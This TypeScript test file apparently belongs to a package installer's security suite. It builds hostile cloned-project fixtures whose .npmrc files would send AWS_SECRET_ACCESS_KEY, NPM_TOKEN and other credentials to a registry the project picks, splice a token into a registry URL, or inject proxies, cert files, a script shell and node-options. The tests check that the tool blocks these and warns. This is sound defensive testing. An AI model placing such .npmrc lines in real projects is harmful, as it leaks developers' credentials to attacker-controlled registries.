import { project } from "../cloned-project.ts";
import type { Hostile } from "../hostile-package.ts";
import { harmless, json } from "../making.ts";
import { SECRET, type World } from "../world.ts";

export const projectRegistries: readonly Hostile[] = [
  project(
    "a .npmrc that would send a secret to its own registry",
    ({ registry }) => ({
      files: {
        ".npmrc": `registry=${registry.url}\n//${new URL(registry.url).host}/:_authToken=\${AWS_SECRET_ACCESS_KEY}\n`,
      },
      argv: ["install", "--yes", "--force", publishedOnce(registry)],
      env: { AWS_SECRET_ACCESS_KEY: SECRET, ...withoutOwn(registry) },
    }),
    {
      installed: ({ world, printed }) => {
        const sent = world.registry.requests.some(({ headers }) => json(headers).includes(SECRET));
        if (sent) throw new Error("The registry has the secret.");
        if (!printed.includes("it would send AWS_SECRET_ACCESS_KEY to a registry")) throw new Error(printed);
      },
    },
  ),
  ...(
    [
      ["NPM_TOKEN", "info"],
      ["NODE_AUTH_TOKEN", "install"],
      ["COMPANY_NPM_PASSWORD", "search"],
    ] as const
  ).map(([variable, command]) =>
    project(
      `a .npmrc that would send ${variable} to its own registry with hugo ${command}`,
      ({ registry }) => ({
        files: {
          ".npmrc": `registry=${registry.url}\n//${new URL(registry.url).host}/:_authToken=\${${variable}}\n`,
        },
        argv: [command, publishedOnce(registry)],
        env: { [variable]: SECRET, ...withoutOwn(registry) },
      }),
      {
        code: "not-approved",
        says: new RegExp(`needs your approval.*packages come from http.*your ${variable} is sent to 127`),
      },
    ),
  ),
  project(
    "a .npmrc that puts NPM_TOKEN into the address of its registry",
    ({ registry }) => ({
      files: { ".npmrc": `@org:registry=${registry.url}\${NPM_TOKEN}/\n` },
      argv: ["info", "@org/x"],
      env: { NPM_TOKEN: SECRET },
    }),
    { code: "not-approved", says: "which gets your NPM_TOKEN" },
  ),
  project(
    "a .npmrc that would send NPM_TOKEN to the user's own registry",
    ({ registry }) => ({
      files: { ".npmrc": `//${new URL(registry.url).host}/:_authToken=\${NPM_TOKEN}\n` },
      argv: ["info", publishedOnce(registry)],
      env: { NPM_TOKEN: SECRET, ...withoutOwn(registry), npm_config_registry: registry.url },
    }),
    {
      installed: ({ printed }) => {
        if (!printed.includes("you have not approved it: Your NPM_TOKEN is sent to")) throw new Error(printed);
      },
    },
  ),
  ...(["userconfig", "globalconfig", "prefix"] as const).map((key) =>
    project(
      `a .npmrc whose ${key} leads to other settings`,
      ({ registry }) => ({
        files: {
          ".npmrc": `${key}=\${PWD}/node\nregistry=\n`,
          [key === "prefix" ? "node/etc/npmrc" : "node"]: "registry=http://127.0.0.1:1/\n",
        },
        argv: ["info", publishedOnce(registry)],
        env: { npm_config_globalconfig: "", npm_config_userconfig: "" },
      }),
      {
        installed: ({ printed }) => {
          if (!/elsewhere-\d+ v1\.0\.0/.test(printed)) throw new Error(printed);
        },
      },
    ),
  ),
  project(
    "a .npmrc with a proxy, certificates and programs of its own",
    ({ registry }) => ({
      files: {
        ".npmrc": [
          ...["proxy=http://127.0.0.1:1/", "https-proxy=http://127.0.0.1:1/", "noproxy=", "strict-ssl=false"],
          ...["cafile=./ca.pem", "cert=x", "key=y", "script-shell=./sh", "git=./git", "node-options=--require ./x.cjs"],
          ...["ignore-scripts=false", `//${new URL(registry.url).host}/:certfile=./ca.pem`],
          `//${new URL(registry.url).host}/:keyfile=./ca.pem\n`,
        ].join("\n"),
        "ca.pem": "not a certificate",
      },
      argv: ["info", publishedOnce(registry)],
    }),
    {
      installed: ({ printed }) => {
        if (!/elsewhere-\d+ v1\.0\.0/.test(printed)) throw new Error(printed);
      },
    },
  ),
  project(
    "a .npmrc that redirects all packages, which is reported",
    ({ registry }) => ({
      files: { ".npmrc": `registry=${registry.url}\n` },
      argv: ["install", "--yes", "--force", publishedOnce(registry)],
      env: { npm_config_registry: "", BUN_CONFIG_REGISTRY: "" },
    }),
    {
      installed: ({ printed }) => {
        if (!printed.includes("Because of this project's .npmrc, packages come from")) throw new Error(printed);
      },
    },
  ),
];

/** The user has neither a registry nor a token. */
function withoutOwn({ url }: World["registry"]): Record<string, string> {
  const login = `npm_config_//${new URL(url).host}/:_authToken`;
  return { npm_config_registry: "", BUN_CONFIG_REGISTRY: "", [login]: "" };
}

let published = 0;

/** A name that no other case has asked for. */
function publishedOnce(registry: World["registry"]): string {
  const name = `elsewhere-${++published}`;
  registry.publish({ name, version: "1.0.0", files: harmless });
  return name;
}
